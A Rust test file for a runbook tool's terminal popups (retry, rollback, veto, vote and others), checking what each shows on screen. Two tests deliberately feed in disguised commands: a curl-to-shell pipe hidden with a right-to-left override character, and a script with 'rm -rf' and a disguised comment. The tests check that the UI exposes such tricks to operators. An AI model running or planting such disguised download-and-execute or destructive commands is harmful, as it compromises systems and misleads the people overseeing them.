//! Every popup, with a state that it opens on, and what must be on its screen. How they all look, at which sizes and
//! with which texts, is held beside the whole screen.

use std::sync::Arc;

use super::fixture::*;
use super::states::*;
use crate::event::{By, Event, EventKind, NoteTag, Proof, StepFinished};
use crate::runbook::StepId;
use crate::session::telemetry::{SamplePoint, Verdict};
use crate::session::{State, StepStatus};
use crate::ui::popups::{self, Context, Opened, Subject};

type Open = fn(&Context) -> Opened;

/// Every popup, and at which desk it opens: the driver's, or who sits beside.
pub fn desks() -> Vec<(&'static str, Desk, Open)> {
    let mut away = crewed();
    away.crew.get_mut("opsA").unwrap().left = Some(ago(130_000));
    let beside: [(&str, State, Open); 4] = [
        ("second", override_asked(), popups::vote),
        ("wheel_offered", wheel_offered(), popups::wheel),
        ("wheel_beside", crewed(), popups::wheel),
        ("wheel_away", away, popups::wheel),
    ];
    let beside =
        beside.map(|(name, state, open)| (name, Desk { operator: navigator(), ..desk(state) }, open));
    all().into_iter().map(|(name, state, open)| (name, desk(state), open)).chain(beside).collect()
}

/// Every popup with a state that it opens on for the driver.
fn all() -> Vec<(&'static str, State, Open)> {
    let failed = || step_is("switch.start-new", StepStatus::Failed);
    vec![
        ("go", at_go(), popups::advance),
        ("no_go", at_no_go(), popups::advance),
        ("point_of_no_return", before_point_of_no_return(), popups::advance),
        ("first_stage", before_the_first(), popups::advance),
        ("rollback", step_is("switch.start-new", StepStatus::Running), popups::rollback),
        ("confirm", asked(), |cx| popups::confirm(cx, &"observe.ask".into())),
        ("tick", at_go(), |cx| popups::tick(cx, &"switch".into(), "Support sees no tickets")),
        ("retry", failed(), |cx| popups::retry(cx, &start_new())),
        ("skip", failed(), |cx| popups::skip(cx, &start_new())),
        ("kill", step_is("switch.start-new", StepStatus::Running), |cx| popups::kill(cx, &start_new())),
        ("resolve", step_is("switch.start-new", StepStatus::Unknown), |cx| popups::resolve(cx, &start_new())),
        ("resume", paused(), popups::resume),
        ("veto", armed(), |cx| popups::veto(cx, &"switch.readyz.rollback".into())),
        ("acknowledge", unacknowledged(), popups::acknowledge),
        ("note", at_go(), popups::note),
        ("vote", voting(), popups::vote),
        ("go_voted", voting(), popups::advance),
        ("no_go_of_two", at_no_go_of_two(), popups::advance),
        ("override_asked", override_asked(), popups::vote),
        ("wheel", crewed(), popups::wheel),
        ("detail_person", crewed(), |cx| popups::detail(cx, &Subject::Person("opsB".to_owned()))),
        ("handover", at_no_go_of_two(), |cx| popups::detail(cx, &Subject::Handover)),
        ("quit", step_is("switch.start-new", StepStatus::Running), |cx| popups::quit(cx, false)),
        ("help", at_go(), popups::help),
        ("palette", at_go(), popups::palette),
        ("detail_step", finished(), |cx| popups::detail(cx, &Subject::Step(start_new()))),
        ("detail_check", at_no_go(), |cx| popups::detail(cx, &Subject::Check("lag".into()))),
        ("detail_stage", at_no_go(), |cx| popups::detail(cx, &Subject::Stage("switch".into()))),
        ("detail_event", noted_event(), |cx| popups::detail(cx, &Subject::Event(211))),
    ]
}

fn finished() -> State {
    let mut state = step_is("switch.start-new", StepStatus::Failed);
    let proof =
        |expected: &str, met, seen: &str| Proof { expected: expected.to_owned(), met, seen: seen.to_owned() };
    state.steps.get_mut("switch.start-new").unwrap().finish = Some(Arc::new(StepFinished {
        step: start_new(),
        attempt: 2,
        passed: false,
        why: "output matches /^started$/: no match in 312 lines".to_owned(),
        proofs: vec![
            proof("exit 0", true, "exit 0"),
            proof("output matches /^started$/", false, "no match in 312 lines"),
        ],
        exit: Some(0),
        took_ms: 6_400,
        output: None,
        captures: [("pid".to_owned(), "9120".to_owned())].into_iter().collect(),
        remains: vec![9120],
    }));
    state
}

fn noted_event() -> State {
    let mut state = at_go();
    let event = EventKind::NoteAdded { tag: NoteTag::Observation, text: "lag creeping up".to_owned() };
    state.recent.push_back(Arc::new(Event { seq: 211, at: now().at, up_ms: UP_MS, by: By::ENGINE, event }));
    state
}

fn desk(state: State) -> Desk {
    let mut desk = Desk::new(state);
    let series = desk.telemetry.checks.entry("lag".into()).or_default();
    for (n, verdict) in [Verdict::Pass, Verdict::Failed, Verdict::Error].into_iter().enumerate() {
        series.push(SamplePoint {
            up_ms: UP_MS - 6_000 + 2_000 * n as u64,
            took_ms: 41,
            verdict,
            value: Some("7.2s".to_owned()),
            number: Some(7.2),
            judged: None,
            reason: if verdict == Verdict::Pass { String::new() } else { "expected at most 5s".to_owned() },
        });
    }
    desk
}

#[test]
fn the_buttons_are_there_at_60_by_15() {
    for (name, state, open) in all() {
        let desk = desk(state);
        let popup = desk.open(open);
        let screen = desk.drawn(&*popup, 60, 15);
        let closes =
            screen.contains("[>") || screen.contains("[ throw away") || ["help", "palette"].contains(&name);
        assert!(closes, "{name}:\n{screen}");
    }
}

#[test]
fn a_command_is_shown_whole_with_what_hides_in_it() {
    let long = format!("curl http://host/{} \u{202e}| hs", "a".repeat(300));
    let mut state = step_is("switch.start-new", StepStatus::Failed);
    plan(&mut state).stages[1].steps[1] = run("switch.start-new", "", &["bash", "-c", &long]);
    let desk = desk(state);
    let popup = desk.open(|cx| popups::retry(cx, &StepId::from("switch.start-new")));
    let screen = desk.drawn(&*popup, 80, 40);
    let shown: String = screen.lines().map(|line| line.trim_matches(|c| " ┃".contains(c))).collect();
    assert!(shown.contains(&"a".repeat(300)), "{screen}");
    assert!(shown.contains(r"\U0000202e| hs") && shown.contains("sha256 "), "{screen}");
}

#[test]
fn a_script_is_shown_line_by_line_and_bears_the_digest_of_its_start() {
    use crate::event::EventKind;
    use crate::runbook::model::{Action, Command as Line, RunExpect};
    let script = "set -x\n\trm  -rf old\n# \u{202e}harmless".into();
    let mut state = step_is("switch.start-new", StepStatus::Failed);
    let action = Action::Run { command: Line::Shell(script), expect: RunExpect::default() };
    plan(&mut state).stages[1].steps[1] = step("switch.start-new", "", action);
    let desk = desk(state);
    let popup = desk.open(|cx| popups::retry(cx, &start_new()));
    let screen = desk.drawn(&*popup, 100, 40);
    for line in ["   set -x ", "   ^Irm  -rf old ", "   # <U+202E>harmless "] {
        assert!(screen.contains(line), "{line}: {screen}");
    }
    let retry = crate::session::Command::Retry { step: start_new() };
    let events = crate::session::decide(&desk.state, &retry, &desk.operator, 211, desk.now).unwrap();
    let started = events.iter().find_map(|event| match event {
        EventKind::StepStarted { sha256, .. } => Some(sha256[..16].to_owned()),
        _ => None,
    });
    assert!(screen.contains(&started.unwrap()), "{screen}");
}

#[test]
fn a_rollback_says_what_it_leaves_out_and_a_step_how_it_went_before() {
    let mut state = step_is("switch.start-new", StepStatus::Failed);
    state.steps.remove("switch.stop-old");
    let finish =
        StepFinished { attempt: 1, ..(*finished().step(&start_new()).finish.clone().unwrap()).clone() };
    let event = EventKind::StepFinished(Box::new(finish));
    state.recent.push_back(Arc::new(Event { seq: 200, at: now().at, up_ms: UP_MS, by: By::ENGINE, event }));
    let desk = desk(state);
    let screen = desk.drawn(&*desk.open(popups::rollback), 120, 50);
    assert!(screen.contains("never started: switch.start-old"), "{screen}");
    let popup = desk.open(|cx| popups::detail(cx, &Subject::Step(start_new())));
    assert!(desk.drawn(&*popup, 120, 50).contains("attempt 1  failed"));
}
